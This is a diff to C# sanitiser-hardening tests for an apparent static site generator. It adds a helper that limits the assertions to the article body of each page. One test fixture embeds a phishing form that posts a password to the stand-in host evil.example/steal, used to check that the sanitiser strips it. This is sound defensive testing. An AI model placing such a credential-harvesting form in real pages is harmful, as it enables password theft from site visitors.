@@ -26,7 +26,7 @@ public sealed class SanitiserHardeningTests
         site.Page("phish.md", "Phish",
             "<form action=\"https://evil.example/steal\" method=\"post\"><label>Password <input type=\"password\" name=\"p\"></label><button>Sign in</button></form>\n\n- [x] done\n");
         var result = site.Build();
-        var html = site.Read("phish.html");
+        var html = Prose(site.Read("phish.html"));
         Assert.DoesNotContain("<form", html, StringComparison.Ordinal);
         Assert.DoesNotContain("type=\"password\"", html, StringComparison.Ordinal);
         Assert.DoesNotContain("<button", html, StringComparison.Ordinal);
@@ -75,7 +75,15 @@ public sealed class SanitiserHardeningTests
         using var site = new TempSite();
         site.Page("in.md", "In", "Your password: <input type=\"password\" name=\"p\">\n");
         var result = site.Build();
-        Assert.DoesNotContain("<input", site.Read("in.html"), StringComparison.Ordinal);
+        Assert.DoesNotContain("<input", Prose(site.Read("in.html")), StringComparison.Ordinal);
         Assert.Contains(result.Diagnostics, d => d.Code == "HPD211" && d.Message.Contains("<input> element", StringComparison.Ordinal));
+    }
+
+    /// <summary>The page's article body: the theme's own search box and buttons are not page input.</summary>
+    private static string Prose(string html)
+    {
+        var start = html.IndexOf("<div class=\"prose\">", StringComparison.Ordinal);
+        var end = html.IndexOf("</article>", start, StringComparison.Ordinal);
+        return html[start..end];
     }
 }
